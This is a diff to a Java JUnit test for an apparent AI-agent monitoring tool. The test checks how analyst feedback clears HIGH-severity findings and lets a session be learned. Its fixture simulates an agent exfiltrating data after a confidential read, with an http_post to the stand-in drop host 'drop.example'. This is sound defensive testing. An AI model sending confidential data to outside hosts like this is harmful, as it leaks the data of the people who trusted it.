@@ -22,6 +22,7 @@ import io.agentwatch.testing.Events;
 import io.agentwatch.testing.MonitorHarness;
 import java.time.Duration;
 import java.time.Instant;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.Test;
@@ -126,9 +127,13 @@ class FeedbackTopologyTest {
 
     @Test
     void shouldLetAnOpenSessionBeLearnedOnceItsSeriousFindingsAreCleared() {
-        try (MonitorHarness h = harness()) {
-            // given a revoked session, still open, with two HIGH findings (by boundary and by destination)
-            List<Finding> serious = MonitorHarness.findingsIn(exfiltrate(h, "s-1")).stream()
+        // dry run: a revoke the broker does not confirm would be a HIGH finding of its own
+        try (MonitorHarness h = MonitorHarness.create(Map.of(AgentwatchConfig.RESPONSE_DRY_RUN, true))) {
+            h.withBenignHistory();
+            // given an open session with two HIGH findings (two sends out after the confidential read)
+            List<Replayer.Output> outputs = new ArrayList<>(exfiltrate(h, "s-1"));
+            outputs.addAll(h.call(sendTo("s-1", "t-s-1", "http_post", "https://drop.example/s-1", "drop.example")));
+            List<Finding> serious = MonitorHarness.findingsIn(outputs).stream()
                     .filter(f -> f.getSeverity().ordinal() >= Severity.HIGH.ordinal()).toList();
             assertThat(serious).hasSize(2);
             assertThat(h.session(MAILER, "s-1").response().isLearnable()).isFalse();
@@ -144,7 +149,8 @@ class FeedbackTopologyTest {
             h.feed(verdict("v-2", serious.get(1), FeedbackVerdict.BENIGN_EXPECTED, h.now()));
 
             // then the session will be learned after all, and no suppression was created
-            assertThat(h.session(MAILER, "s-1").response().isLearnable()).isTrue();
+            assertThat(h.session(MAILER, "s-1").response().isLearnable())
+                    .as("remembered: %s", h.findingMemory(MAILER).remembered()).isTrue();
             assertThat(h.findingMemory(MAILER).analystSuppressions()).isEmpty();
             closeSessions(h);
             assertThat(h.baseline(MAILER).learnedSessions()).isEqualTo(learned + 1);
